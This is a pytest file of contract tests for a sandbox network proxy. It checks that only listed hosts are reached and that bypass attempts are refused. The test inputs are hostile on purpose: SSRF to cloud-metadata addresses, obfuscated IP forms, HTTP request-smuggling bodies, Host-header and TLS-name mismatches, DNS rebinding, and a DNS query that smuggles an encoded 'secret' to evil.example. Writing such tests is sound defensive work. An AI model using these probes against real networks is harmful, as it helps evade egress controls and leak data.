"""The contract of what a sandbox's network lets through, and of all the ways around that fail."""

import asyncio
from collections.abc import AsyncGenerator
from ipaddress import ip_address
from pathlib import Path

import pytest
import pytest_asyncio

from patchkiln.domain.network import AllowedAddress, NetworkRefusal
from patchkiln.ports.sandbox import SandboxProvider
from patchkiln.sandboxes.network import interfaces, requests, sandbox_network
from patchkiln.sandboxes.network.refusals import MAX_REFUSALS
from tests.contract.sandbox.making import run, text
from tests.contract.sandbox.reaching import PROXY, Names, Reaching, reaching, rule
from tests.support.git_server import GitServer
from tests.support.web import WebServer, make_certificate, web_server

pytestmark = [pytest.mark.asyncio(loop_scope="package"), pytest.mark.one_provider]

NOT_LISTED = "not in the list of allowed hosts"
URLLIB = "import sys, urllib.request as r; print(r.urlopen(sys.argv[1]).read().decode())"


@pytest.fixture
def names(monkeypatch: pytest.MonkeyPatch) -> Names:
    """Let names of the tests lead to loopback."""
    names = Names(monkeypatch)
    names.known = {"web.example": ["127.0.0.1"], "a.web.example": ["127.0.0.1"]}
    return names


@pytest_asyncio.fixture(loop_scope="package")
async def web() -> AsyncGenerator[WebServer]:
    """Serve pages."""
    async with web_server() as web:
        yield web


@pytest_asyncio.fixture(loop_scope="package")
async def open_box(
    provider: SandboxProvider, names: Names, web: WebServer
) -> AsyncGenerator[Reaching]:
    """Lend a sandbox that may reach the pages."""
    rules = (rule("web.example", web.port), rule("*.web.example", web.port))
    async with reaching(provider, *rules) as box:
        yield box


@pytest.mark.every_provider
async def test_tools_reach_what_is_named(open_box: Reaching, web: WebServer) -> None:
    """By the proxy, and without knowing of it: names resolve, connections are captured."""
    url = f"http://web.example:{web.port}/page"
    assert await open_box.curl(url) == "200 reached /page"
    assert await open_box.curl(url, "--noproxy", "*") == "200 reached /page"
    assert await open_box.curl(url, "--proxytunnel") == "200 reached /page"
    assert await open_box.curl(url.replace("web", "A.Web", 1) + "#x") == "200 reached /page"
    assert await open_box.curl(url.replace("example", "example.", 1)) == "200 reached /page"
    for env in ({}, {"http_proxy": "", "HTTP_PROXY": ""}):
        output = await run(open_box.box, "python3", "-c", URLLIB, url, env=env)
        assert output.stdout == b"reached /page\n", output
    assert await open_box.curl(url, "-d", "posted", "-H", "Expect: 100-continue") == (
        "200 reached /page"
    )
    chunked = ("-H", "Transfer-Encoding: chunked", "-d", "in chunks")
    assert await open_box.curl(url, *chunked) == "200 reached /page"
    assert web.bodies[-2:] == [b"posted", b"in chunks"]
    assert open_box.refused == []


async def test_git_reaches_what_is_named(
    provider: SandboxProvider, names: Names, tmp_path: Path
) -> None:
    """By HTTP through the proxy, and by its own protocol, which passes unread."""
    with GitServer(tmp_path / "served") as server:
        server.add("project", {"README": b"hello"})
        daemon = await asyncio.create_subprocess_exec(
            "git", "daemon", "--export-all", f"--base-path={server.root}", "--listen=127.0.0.2",
            f"--port={server.port}", "--reuseaddr", stderr=asyncio.subprocess.DEVNULL,
        )  # fmt: skip
        names.known["git.example"] = ["127.0.0.2"]
        try:
            rules = (rule("web.example", server.port), rule("git.example", server.port))
            async with reaching(provider, *rules) as open_box:
                for url in (
                    f"http://web.example:{server.port}",
                    f"git://git.example:{server.port}",
                ):
                    script = f"git clone -q {url}/project.git x && cat x/README && rm -rf x"
                    script = f"for i in 1 2 3 4 5 6 7 8 9; do {script} && break; sleep 0.2; done"
                    assert await text(open_box.box, script) == "hello", url
        finally:
            daemon.terminate()
            await daemon.wait()


REFUSED_URLS = {
    "http://evil.example:{port}/": NOT_LISTED,
    "http://notweb.example:{port}/": NOT_LISTED,
    "http://web.example.evil.example:{port}/": NOT_LISTED,
    "http://example:{port}/": NOT_LISTED,
    "http://web.example:22/": NOT_LISTED,
    "http://web.example/": NOT_LISTED,
    "http://web.example@evil.example:{port}/": NOT_LISTED,
    "http://127.0.0.1:{port}/": NOT_LISTED,
    "http://[::1]:{port}/": NOT_LISTED,
    "http://[::ffff:127.0.0.1]:{port}/": NOT_LISTED,
    "http://169.254.169.254/": NOT_LISTED,
}


@pytest.mark.every_provider
async def test_what_is_not_named_is_refused(
    open_box: Reaching, names: Names, web: WebServer
) -> None:
    """Neighbours, look-alikes, other ports and bare addresses: in words that say why."""
    for url, why in REFUSED_URLS.items():
        for tunnel in ((), ("--proxytunnel",)):
            answer = await open_box.curl(url.format(port=web.port), "--noproxy", "", *tunnel)
            assert "403" in answer, (url, answer)
        assert why in answer or tunnel, url
    assert set(open_box.rules) == {NOT_LISTED}
    assert web.heads == []
    assert names.asked == []
    answer = await open_box.curl(f"http://evil.example:{web.port}/")
    assert answer == (
        f"403 evil.example:{web.port} was not reached: not in the list of allowed hosts. "
        "The operator's list of hosts decides what this sandbox may reach."
    )


async def test_disguised_addresses_are_no_hosts(open_box: Reaching, web: WebServer) -> None:
    """Numbers that a resolver takes for an address, user names, and names that are none."""
    hosts = ("2130706433", "0177.0.0.1", "0x7f.1", "127.1", "u@web.example", "wéb.example", "%77eb")
    for host in hosts:
        asked = await open_box.ask_proxy(f"GET http://{host}:{web.port}/ HTTP/1.1", f"Host: {host}")
        assert asked.startswith("HTTP/1.1 400"), (host, asked)
        tunnel = await open_box.ask_proxy(f"CONNECT {host}:{web.port} HTTP/1.1", f"Host: {host}")
        assert tunnel.startswith(("HTTP/1.1 400", "HTTP/1.1 403")), (host, tunnel)
    for target in ("web.example:22", "web.example:25", "web.example:0", "web.example", ":80", "/"):
        tunnel = await open_box.ask_proxy(f"CONNECT {target} HTTP/1.1", "Host: web.example")
        assert tunnel.startswith("HTTP/1.1 403"), (target, tunnel)
    assert web.heads == []


async def test_the_host_header_is_the_host(open_box: Reaching, web: WebServer) -> None:
    """Of each request of a connection, through the proxy and captured."""
    port = web.port
    asked = await open_box.ask_proxy(
        f"GET http://web.example:{port}/ HTTP/1.1", "Host: other.example"
    )
    assert "403" in asked
    assert "the Host header differs from the host" in asked
    first = f"GET /first HTTP/1.1\r\nHost: web.example:{port}\r\n\r\n"
    second = "GET /second HTTP/1.1\r\nHost: other.example\r\n\r\n"
    captured = (await open_box.talk("web.example", port, (first + second).encode())).decode()
    assert "reached /first" in captured
    assert "HTTP/1.1 403" in captured
    absolute = f"GET http://other.example/ HTTP/1.1\r\nHost: web.example:{port}\r\n\r\n"
    assert b"403" in await open_box.talk("web.example", port, absolute.encode())
    again = f"CONNECT other.example:443 HTTP/1.1\r\nHost: web.example:{port}\r\n\r\n"
    assert b"400" in await open_box.talk("web.example", port, again.encode())
    for odd in (b"get / HTTP/1.1\nhost: other.example\n\n", b"\r\nGET  / HTTP/1.1\r\n\r\n"):
        assert b"HTTP/1.1 400" in await open_box.talk("web.example", port, odd), odd
    proxied = f"GET http://web.example:{port}/1 HTTP/1.1\r\nHost: web.example:{port}\r\n\r\n"
    proxied += "GET http://evil.example/ HTTP/1.1\r\nHost: evil.example\r\n\r\n"
    both = (await open_box.talk(*PROXY, proxied.encode())).decode()
    assert "reached /1" in both
    assert "evil.example:80 was not reached" in both
    assert [head.split(" ")[1] for head in web.heads] == ["/first", "/1"]


async def test_no_request_hides_another(open_box: Reaching, web: WebServer) -> None:
    """What could be read in two ways is refused; what is meant for the proxy goes no further."""
    url = f"http://web.example:{web.port}/"
    hidden = "GET /hidden HTTP/1.1\r\nHost: web.example\r\n\r\n"
    for headers in (
        ("Content-Length: 4", "Transfer-Encoding: chunked"),
        ("Content-Length: 4", "Content-Length: 50"),
        ("Transfer-Encoding: chunked", "Transfer-Encoding: identity"),
        ("X: y\r\n Transfer-Encoding: chunked",),
        ("X: y\nTransfer-Encoding: chunked",),
    ):
        lines = (f"POST {url} HTTP/1.1", f"Host: web.example:{web.port}", *headers)
        asked = await open_box.ask_proxy(*lines, body=f"0\r\n\r\n{hidden}".encode())
        assert asked.startswith("HTTP/1.1 400"), headers
    assert web.heads == []
    sent = ("-H", "Proxy-Authorization: x", "-H", "Connection: X-Gone, close", "-H", "X-Gone: x",
            "-H", "X-Kept: x", "-H", "Upgrade: h2c")  # fmt: skip
    assert await open_box.curl(url, *sent) == "200 reached /"
    assert set(web.headers()) == {"host", "user-agent", "accept", "x-kept", "connection"}
    assert web.headers()["connection"] == "close"


async def test_redirects_lead_nowhere_new(open_box: Reaching, web: WebServer) -> None:
    """The proxy follows none; a program that does is judged again."""
    url = f"http://web.example:{web.port}/to?http://169.254.169.254/latest"
    assert await open_box.curl(url) == "302"
    assert NOT_LISTED in await open_box.curl(url, "-L")
    assert open_box.refused == [NetworkRefusal(host="169.254.169.254", port=80, rule=NOT_LISTED)]
    assert len(web.heads) == 2


@pytest.mark.every_provider
async def test_where_a_name_leads_is_judged(
    provider: SandboxProvider, names: Names, web: WebServer
) -> None:
    """Private, metadata and own addresses are refused whatever the list says, and told by rule."""
    own = [str(each) for each in interfaces.own_addresses() if each.is_global]
    wrong = {
        "private.example": ("10.0.0.1", "private address"),
        "loop.example": ("127.0.0.1", "loopback address"),
        "meta.example": ("169.254.169.254", "metadata address"),
        "cgnat.example": ("100.64.0.1", "private address"),
        "alibaba.example": ("100.100.100.200", "metadata address"),
        "azure.example": ("168.63.129.16", "metadata address"),
        "ula.example": ("fd00::1", "private address"),
        "link.example": ("fe80::1", "link-local address"),
        "mapped.example": ("::ffff:10.0.0.1", "private address"),
        "nat64.example": ("64:ff9b::a00:1", "private address"),
        **{f"own{number}.example": (each, "this machine's own address")
           for number, each in enumerate(own)},
    }  # fmt: skip
    names.known |= {name: [address] for name, (address, _) in wrong.items()}
    rules = [rule(name, web.port, trusted=False) for name in wrong]
    async with reaching(provider, *rules, rule("10.9.9.9", 80, trusted=False)) as open_box:
        for name, (_, why) in wrong.items():
            assert why in await open_box.curl(f"http://{name}:{web.port}/"), name
        assert "private address" in await open_box.curl("http://10.9.9.9/")
        assert await open_box.talk("10.9.9.9", 80, b"") == b"ECONNRESET\n"
    told = {refusal.host: refusal.rule for refusal in open_box.refused}
    assert told == {name: why for name, (_, why) in wrong.items()} | {"10.9.9.9": "private address"}
    assert web.heads == []


async def test_this_machine_s_public_address_is_its_own(
    provider: SandboxProvider, names: Names, web: WebServer, monkeypatch: pytest.MonkeyPatch
) -> None:
    """An address that no rule calls private is refused all the same where the machine has it."""
    names.known["public.example"] = ["8.8.4.4"]
    own = frozenset({ip_address("8.8.4.4")})
    monkeypatch.setattr("patchkiln.sandboxes.network.guard.own_addresses", lambda: own)
    async with reaching(provider, rule("public.example", web.port, trusted=False)) as open_box:
        answer = await open_box.curl(f"http://public.example:{web.port}/")
    assert "this machine's own address" in answer


async def test_a_name_that_changes_changes_nothing(
    provider: SandboxProvider, names: Names, web: WebServer
) -> None:
    """What was judged is what is dialled, for as long as it answers: the name is asked for once."""
    names.known["rebind.example"] = ["127.0.0.1", "127.0.0.2"]
    allowed = (AllowedAddress(address=ip_address("127.0.0.1"), port=web.port),)
    listed = rule("rebind.example", web.port, trusted=False)
    async with reaching(provider, listed, addresses=allowed) as open_box:
        for _ in range(3):
            url = f"http://rebind.example:{web.port}/"
            assert await open_box.curl(url) == "200 reached /"
            assert await open_box.curl(url, "--noproxy", "*") == "200 reached /"
        assert names.asked == ["rebind.example"]


ASK_NAMES = """
import socket, struct
def ask(name, kind, how):
    labels = b''.join(bytes([len(l)]) + l.encode() for l in name.split('.'))
    data = struct.pack('>6H', 7, 256, 1, 0, 0, 0) + labels + b'\\0' + struct.pack('>2H', kind, 1)
    with socket.socket(socket.AF_INET, how) as s:
        s.settimeout(10)
        s.connect(('127.0.0.1', 53))
        if how == socket.SOCK_STREAM:
            s.sendall(len(data).to_bytes(2, 'big') + data)
            reply = s.recv(4096)[2:]
        else:
            s.send(data)
            reply = s.recv(4096)
    print(name, kind, reply[3] & 15, reply[7])
for how in (socket.SOCK_DGRAM, socket.SOCK_STREAM):
    ask('web.example', 1, how)
    ask('b.WEB.example', 1, how)
    ask('web.example', 28, how)
    ask('web.example', 16, how)
    ask('c2VjcmV0.evil.example', 1, how)
    ask('c2VjcmV0.evil.example', 16, how)
    ask('1.0.77.127.in-addr.arpa', 12, how)
"""


@pytest.mark.every_provider
async def test_no_name_carries_a_word_out(open_box: Reaching, names: Names) -> None:
    """Questions for names are answered from the list alone, over UDP and TCP."""
    output = await run(open_box.box, "python3", "-c", ASK_NAMES)
    one = [
        "web.example 1 0 1",
        "b.WEB.example 1 0 1",
        "web.example 28 0 0",
        "web.example 16 0 0",
        "c2VjcmV0.evil.example 1 3 0",
        "c2VjcmV0.evil.example 16 3 0",
        "1.0.77.127.in-addr.arpa 12 3 0",
    ]
    assert output.stdout.decode().splitlines() == one * 2, output
    assert names.asked == []
    told = {refusal.host for refusal in open_box.refused}
    assert told == {"c2VjcmV0.evil.example", "1.0.77.127.in-addr.arpa"}


TLS_CLIENT = """
import socket, ssl, sys
context = ssl._create_unverified_context()
def tell(how):
    try:
        print(how())
    except OSError as error:
        print(type(error).__name__)
def tunnel(name):
    with socket.create_connection(('127.0.0.1', 3128)) as s:
        s.sendall(b'CONNECT %s:%s HTTP/1.1\\r\\nHost: %s\\r\\n\\r\\n' % (HOST, PORT, HOST))
        assert b' 200 ' in s.recv(4096)
        return speak(s, name)
def captured(name):
    with socket.create_connection((HOST.decode(), int(PORT))) as s:
        return speak(s, name)
def speak(s, name):
    with context.wrap_socket(s, server_hostname=name) as t:
        t.sendall(b'GET /tls HTTP/1.1\\r\\nHost: %s\\r\\n\\r\\n' % HOST)
        return t.recv(4096).split(b'\\r\\n')[-1].decode()
HOST, PORT = sys.argv[1].encode(), sys.argv[2].encode()
for way in (tunnel, captured):
    for name in (sys.argv[1], 'other.example', None):
        tell(lambda: way(name))
"""


async def test_the_name_in_tls_is_the_host_s(
    provider: SandboxProvider, names: Names, tmp_path: Path
) -> None:
    """Another one, or none, breaks the connection, whichever way it was made."""
    _, context = make_certificate(tmp_path, "web.example")
    async with (
        web_server(ssl=context) as web,
        reaching(provider, rule("web.example", web.port)) as open_box,
    ):
        output = await open_box.python(TLS_CLIENT, "web.example", str(web.port))
    once = ["reached /tls", "ConnectionResetError", "ConnectionResetError"]
    assert output.stdout.decode().splitlines() == once * 2, output
    assert open_box.rules == [
        "the TLS name differs from the host",
        "the TLS greeting names no host",
    ]
    assert len(web.heads) == 2


async def test_web_ports_are_for_the_web(
    provider: SandboxProvider, names: Names, tmp_path: Path
) -> None:
    """On 443 nothing but TLS passes, on 80 nothing but HTTP, so that no name goes unread."""
    names.known["web.example"] = ["127.77.77.77"]
    _, context = make_certificate(tmp_path, "web.example")
    async with (
        web_server(address="127.77.77.77", port=443, ssl=context),
        web_server(address="127.77.77.77", port=80) as plain,
        reaching(provider, rule("web.example", None)) as open_box,
    ):
        assert await open_box.curl("https://web.example/", "-k") == "200 reached /"
        assert await open_box.curl("http://web.example/", "--noproxy", "*") == "200 reached /"
        assert await open_box.talk("web.example", 443, b"SSH-2.0-x\r\n") == b"ECONNRESET\n"
        assert await open_box.talk("web.example", 80, b"SSH-2.0-x\r\n") == b"ECONNRESET\n"
        odd = "http://web.example:443/"
        assert "not TLS" in await open_box.curl(odd)
    assert open_box.rules == ["not TLS, which this port is for", "not HTTP, which this port is for"]
    assert len(plain.heads) == 1


async def test_what_is_slow_or_endless_is_bounded(
    open_box: Reaching, web: WebServer, monkeypatch: pytest.MonkeyPatch
) -> None:
    """A head that never ends is cut off; an endless answer waits for its reader."""
    monkeypatch.setattr(requests, "HEAD_S", 0.2)
    started = b"GET http://web.example/ HTTP/1.1\r\nX: "
    assert await open_box.talk(*PROXY, started) == b"ECONNRESET\n"
    assert b" 400 " in await open_box.talk(*PROXY, started + b"y" * 200_000)
    url = f"http://web.example:{web.port}/endless"
    code = f"import time, urllib.request as r; r.urlopen('{url}').read(10); time.sleep(1000)"
    reader = await open_box.box.exec(["python3", "-c", code])
    await web.begun.wait()
    sent = -1
    while sent != web.sent_bytes:  # until the pipes are full
        sent = web.sent_bytes
        await asyncio.sleep(0.3)
    assert sent < 64 << 20
    await reader.kill()
    async with asyncio.timeout(20):
        await web.gone.wait()


async def test_connections_are_counted(
    provider: SandboxProvider, names: Names, web: WebServer, monkeypatch: pytest.MonkeyPatch
) -> None:
    """More than the limit wait inside the sandbox, and take nothing of the server."""
    monkeypatch.setattr(sandbox_network, "MAX_CONNECTIONS", 3)
    code = (
        "import socket; from sys import argv\n"
        "all = [socket.create_connection(('web.example', int(argv[1]))) for _ in range(6)]\n"
        "for s in all:\n s.sendall(b'GET / HTTP/1.1\\r\\nHost: web.example\\r\\n\\r\\n')\n"
        "for s in all[:3]: assert s.recv(999), s\n"
        "all[5].settimeout(0.5)\n"
        "try: print(all[5].recv(999))\n"
        "except TimeoutError: print('waits')\n"
        "for s in all[:3]: s.close()\n"
        "for s in all[3:]: s.settimeout(20); assert s.recv(999), s\n"
        "print('served')\n"
    )
    async with reaching(provider, rule("web.example", web.port)) as open_box:
        output = await run(open_box.box, "python3", "-c", code, str(web.port))
    assert output.stdout == b"waits\nserved\n", output


async def test_refusals_are_told_once_and_boundedly(open_box: Reaching) -> None:
    """Whatever a program inside asks for, its owner can still read what was refused."""
    code = """
import socket
def ask(target):
    with socket.create_connection(('127.0.0.1', 3128)) as s:
        s.sendall(b'CONNECT ' + target + b' HTTP/1.1\\r\\nHost: x\\r\\n\\r\\n')
        s.recv(999)
for _ in range(5): ask(b'evil.example:443')
ask(b'\\x1b[31m%1b[0m' + b'x' * 3000 + b':443')
ask(b'<' + b'x' * 3000 + b'>:443')
for n in range(150): ask(b'evil%d.example:443' % n)
"""
    output = await run(open_box.box, "python3", "-c", code)
    assert output.status.exit_code == 0, output
    assert len(open_box.refused) == MAX_REFUSALS
    assert len(set(open_box.refused)) == MAX_REFUSALS
    assert open_box.refused[0] == NetworkRefusal(host="evil.example", port=443, rule=NOT_LISTED)
    assert all(refusal.host.isprintable() for refusal in open_box.refused)
    assert max(len(refusal.host) for refusal in open_box.refused) < 300


async def test_an_address_that_only_the_proxy_reaches_is_asked_of_it(
    provider: SandboxProvider,
) -> None:
    """The loopback of IPv6 is the sandbox's own, until a rule names it."""
    for host, inside in (("::1", "localhost,127.0.0.1"), ("a.example", "localhost,127.0.0.1,::1")):
        async with reaching(provider, rule(host, 5000)) as open_box:
            assert await text(open_box.box, "echo $NO_PROXY $no_proxy") == f"{inside} {inside}"
